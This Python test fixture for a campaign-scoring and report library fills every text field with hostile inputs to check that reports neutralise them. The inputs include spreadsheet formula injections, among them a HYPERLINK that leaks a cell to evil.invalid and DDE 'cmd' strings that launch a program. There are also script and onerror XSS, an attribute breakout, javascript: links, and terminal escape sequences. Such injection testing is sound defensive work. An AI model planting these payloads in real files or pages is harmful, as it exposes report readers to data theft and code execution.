"""A campaign whose every free-text field is an attack on whoever opens its reports.

Spreadsheet formulas (``=``, ``+``, ``-``, ``@``, tab, CR, an error value),
raw HTML with a script and an ``onerror`` handler, an attribute breakout,
``javascript:`` links in HTML and Markdown syntax, Markdown punctuation and
terminal escape sequences sit in unit names, evidence ids, an evidence kind,
phase names, a waiver's grantor and reason, the campaign title and a rubric's
titles and remediation text.
"""

from __future__ import annotations

import json
from datetime import date

import attrs

from wenming.dataset import Dataset
from wenming.model import Label, Phase
from wenming.model.tailoring import Waiver
from wenming.model.vocabulary import EvidenceKind, Vocabulary, base_kinds
from wenming.plugins import hookimpl
from wenming.reports import (
    Comparison,
    GapList,
    ScoreReport,
    Timeline,
    build_comparison,
    build_gaps,
    build_timeline,
)
from wenming.scoring import Scorecard, Scorer
from wenming.testing import MUNICIPAL_PHASES, DatasetBuilder, RubricPlugin, make_host

AS_OF = date(2021, 10, 15)

FORMULA = '=HYPERLINK("evil.invalid/?leak="&A1,"click me")'
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=2+2"
ERROR = "#REF!"
SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'
BREAKOUT = '" onmouseover="alert(3)" x="'
LINKS = '[click](javascript:alert(4)) <a href="javascript:alert(5)">x</a> ![i](javascript:x)'
MARKUP = "# head | cell `code` *em* __strong__ ~~gone~~ \\ end"
CONTROL = "bad\x00\x0b\x1b[31mred\x1b[0m\x9b2J\x7f\x07end"

#: Text a spreadsheet would run, each in some field of the campaign.
FORMULAS = (FORMULA, PLUS, MINUS, AT, TAB, CR)

EVIL_KIND = "evil-kind"
UNIT_EVIL, UNIT_FORMULA = "evil", "=cmd"
EVIDENCE_IDS = (FORMULA, "@E2", "-1+1", SCRIPT, CONTROL, "`tick``id`")


def _toml(text: str) -> str:
    # A JSON string (ASCII, \uXXXX escapes) is a valid TOML basic string.
    return json.dumps(text)


EVIL_RUBRIC = f"""
schema = 1
id = "evil"
version = {_toml(PLUS)}
title = {{ zh = {_toml(SCRIPT)}, en = {_toml(FORMULA + CONTROL)} }}
level = "provincial"
total = 20
pass_line = 10

[[areas]]
code = "A"
title = {{ zh = {_toml(LINKS)}, en = {_toml(MARKUP)} }}
points = 20

[[areas.items]]
code = "1"
title = {{ zh = {_toml(AT + SCRIPT)}, en = {_toml(MINUS + LINKS)} }}
points = 6
owner = "{UNIT_EVIL}"
remediation = {{ zh = {_toml(FORMULA)}, en = {_toml(TAB + SCRIPT)} }}
[[areas.items.criteria]]
type = "present"
kinds = ["work-plan"]
window = "phase:preparation"
points = 6

[[areas.items]]
code = "2"
title = {{ zh = {_toml(CONTROL)}, en = {_toml(CR + MARKUP)} }}
points = 6
criteria = [ {{ type = "present", kinds = ["{EVIL_KIND}"], points = 6 }} ]

[[areas.items]]
code = "3"
title = {{ zh = {_toml(ERROR)}, en = {_toml(BREAKOUT)} }}
points = 4
[[areas.items.criteria]]
type = "coverage"
kinds = ["moral-lecture"]
unit_kinds = ["dispatched"]
window = "2020"
points = 4
credit = "proportional"

[[areas.items]]
code = "4"
title = {{ zh = "豁免项", en = "Waived item" }}
points = 4
criteria = [ {{ type = "present", kinds = ["moral-lecture"], window = "2021", points = 4 }} ]
"""


KIND = EvidenceKind(EVIL_KIND, Label(SCRIPT + FORMULA, LINKS + CONTROL), "activity",
                    provider="hostile")


class _Plugin(RubricPlugin):
    @hookimpl
    def wenming_evidence_kinds(self) -> list[EvidenceKind]:
        return [KIND]


def plugin() -> RubricPlugin:
    return _Plugin(EVIL_RUBRIC)


def _phases() -> list[Phase]:
    names = [Label(SCRIPT, FORMULA), Label(CONTROL, AT), Label(LINKS, MARKUP),
             Label(PLUS, BREAKOUT), Label(TAB, CR), Label(ERROR, MINUS)]
    phases = [attrs.evolve(p, name=name) for p, name in zip(MUNICIPAL_PHASES, names, strict=True)]
    # The evil kind is a deliverable, so its label shows in the timeline too.
    phases[2] = attrs.evolve(phases[2], deliverables=(EVIL_KIND,))
    return phases


def dataset() -> Dataset:
    vocabulary = Vocabulary.of((*base_kinds(), KIND))
    builder = (DatasetBuilder()
               .with_vocabulary(vocabulary)
               .add_unit(UNIT_EVIL, "dispatched", "hq", zh=FORMULA + SCRIPT, en=CONTROL + AT)
               .add_unit(UNIT_FORMULA, "dispatched", "hq", zh=MINUS, en=LINKS)
               .with_phases(_phases())
               .with_waiver(Waiver("evil", "4", by=AT + SCRIPT, reason=FORMULA + CONTROL,
                                   until=date(2022, 1, 1)))
               .add("moral-lecture", "2020-05-10", unit="east", id=EVIDENCE_IDS[0],
                    title=SCRIPT)
               .add(EVIL_KIND, "2020-07-01", id=EVIDENCE_IDS[1], title=FORMULA)
               .add("moral-lecture", "2020-06-01", unit="hq", id=EVIDENCE_IDS[2])
               .add("mobilisation-meeting", "2020-05-20", id=EVIDENCE_IDS[3])
               .add("leading-group-establishment", "2020-04-15", id=EVIDENCE_IDS[4])
               .add("festival-activity", "2020-10-01", id=EVIDENCE_IDS[5], festival="中秋"))
    data = builder.build()
    return attrs.evolve(data, campaign=attrs.evolve(data.campaign,
                                                    title=Label(SCRIPT + ERROR, FORMULA)))


def cards(data: Dataset) -> list[Scorecard]:
    return Scorer(make_host(plugin())).score_all(data, ["evil"], AS_OF)


def reports() -> dict[str, ScoreReport | GapList | Comparison | Timeline]:
    data = dataset()
    scored = cards(data)
    return {"score": ScoreReport.of(scored, data),
            "gaps": build_gaps(scored, data, AS_OF),
            "comparison": build_comparison(scored, data),
            "timeline": build_timeline(data, AS_OF)}
